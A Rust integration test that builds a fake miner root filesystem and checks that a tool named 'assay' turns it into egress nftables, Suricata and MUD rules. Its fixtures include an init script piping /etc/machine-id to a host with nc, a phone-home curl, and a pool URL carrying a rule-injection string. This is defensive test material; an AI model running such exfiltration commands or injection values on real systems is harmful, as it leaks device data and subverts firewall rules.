//! The egress list of a system with an owner's pool, a maker's example and names that try to break out, against the programs that will
//! read it: `nft`, `suricata`, and `yanglint` (Debian `libyang2-tools`) with the modules of the RFCs that PyPI's `pyang` carries, which
//! `scripts/validators` brings. Each is skipped where it is absent.

use std::{
    fs,
    path::Path,
    process::{Command, Output},
};

/// Writes a root filesystem and vets it.
fn vet(folder: &Path, out: &Path) {
    let etc = folder.join("etc");
    fs::create_dir_all(etc.join("init.d")).unwrap();
    fs::create_dir_all(folder.join("bin")).unwrap();
    fs::write(
        etc.join("cgminer.conf"),
        "{\n\"pools\": [\n{\"url\": \"stratum+tcp://pool.owner.test:3333\"},\n{\"url\": \"stratum+tcp://192.0.2.77:25\"},\n\
         {\"url\": \"stratum+tcp://a\\\";accept;#*/:1\"}\n]}\n",
    )
    .unwrap();
    fs::write(etc.join("cgminer.conf.factory"), "{\"pools\": [{\"url\": \"stratum+tcp://pool.maker.test:3333\"}]}\n").unwrap();
    fs::write(etc.join("ntp.conf"), "server time.owner.test iburst\n").unwrap();
    fs::write(etc.join("passwd"), "root:x:0:0:root:/root:/bin/sh\n").unwrap();
    fs::write(etc.join("inittab"), "::sysinit:/etc/init.d/rcS\n").unwrap();
    fs::write(etc.join("init.d/rcS"), "#!/bin/sh\ncat /etc/machine-id | nc 203.0.113.9 4444\ncurl http://phone.maker.test/x\n").unwrap();
    let output = assert_cmd::Command::cargo_bin("assay").unwrap().arg("vet").arg(folder).arg("--out").arg(out).output().unwrap();
    assert_eq!(output.status.code(), Some(0), "{}", String::from_utf8_lossy(&output.stderr));
}

/// The output of a program, if it is here.
fn run(program: &str, arguments: &[&str]) -> Option<Output> {
    match Command::new(program).args(arguments).output() {
        Ok(output) => Some(output),
        Err(_) => {
            eprintln!("skipped: {program} is not here");
            None
        }
    }
}

fn words(output: &Output) -> String {
    format!("{}{}", String::from_utf8_lossy(&output.stdout), String::from_utf8_lossy(&output.stderr))
}

#[test]
fn lists_cite_are_the_same_twice_and_are_understood() {
    let folder = tempfile::tempdir().unwrap();
    let (root, out, again) = (folder.path().join("root"), folder.path().join("out"), folder.path().join("again"));
    vet(&root, &out);
    vet(&root, &again);
    let read = |out: &Path, name: &str| fs::read_to_string(out.join("remediation").join(name)).unwrap();
    for name in ["egress.nft", "suricata.rules", "mud.json"] {
        assert_eq!(read(&out, name), read(&again, name), "{name}");
    }
    let nft = read(&out, "egress.nft");
    let has = |text: &str| assert!(nft.contains(text), "{text}:\n{nft}");
    has("ip daddr 192.0.2.77 tcp dport 25 accept # pool, /etc/cgminer.conf line 4\n");
    has("comment \"pool.owner.test\"; }");
    has("# ASK pool.maker.test tcp dport 3333 accept # pool, /etc/cgminer.conf.factory line 1\n");
    has("ip daddr 203.0.113.9 tcp dport 4444 counter drop # a host that is fixed in the code, ");
    has("# DENIED by the last rule: phone.maker.test");
    let rules = read(&out, "suricata.rules");
    assert!(rules.contains("-> 203.0.113.9 4444 (msg:\"assay "), "{rules}");
    assert!(rules.contains("content:\"phone.maker.test\"") && !rules.contains("owner.test"), "{rules}");
    let mud = read(&out, "mud.json");
    assert!(mud.contains("pool.owner.test") && !mud.contains("maker.test") && mud.contains("pool /etc/cgminer.conf line 4"), "{mud}");

    let path = |name: &str| out.join("remediation").join(name).to_str().unwrap().to_owned();
    // A name space of its own, so that no rights of the machine are needed and nothing of it is looked at.
    if run("nft", &["--version"]).is_some()
        && let Some(output) = run("unshare", &["-rn", "nft", "-c", "-f", &path("egress.nft")])
    {
        let refused = words(&output).contains("unshare") || words(&output).contains("Operation not permitted");
        assert!(output.status.success() || refused, "{}\n{nft}", words(&output));
        if refused {
            eprintln!("skipped: no name space for nft");
        }
    }
    if let Some(output) = run("suricata", &["-T", "-l", out.to_str().unwrap(), "-S", &path("suricata.rules")]) {
        assert!(output.status.success(), "{}\n{rules}", words(&output));
    }
    let target =
        std::env::var_os("CARGO_TARGET_DIR").map_or_else(|| Path::new(env!("CARGO_MANIFEST_DIR")).join("../../target"), Into::into);
    let modules = target.join("validators/share/yang/modules/ietf");
    let module = |name: &str| modules.join(name).to_str().unwrap().to_owned();
    if !modules.is_dir() {
        eprintln!("skipped: scripts/validators has not brought the modules");
        return;
    }
    let (mud_module, lists, names) = (module("ietf-mud.yang"), module("ietf-access-control-list.yang"), module("ietf-acldns.yang"));
    let folder = modules.to_str().unwrap();
    if let Some(output) = run("yanglint", &["-p", folder, "-t", "config", &mud_module, &lists, &names, &path("mud.json")]) {
        assert!(output.status.success(), "{}\n{mud}", words(&output));
    }
}
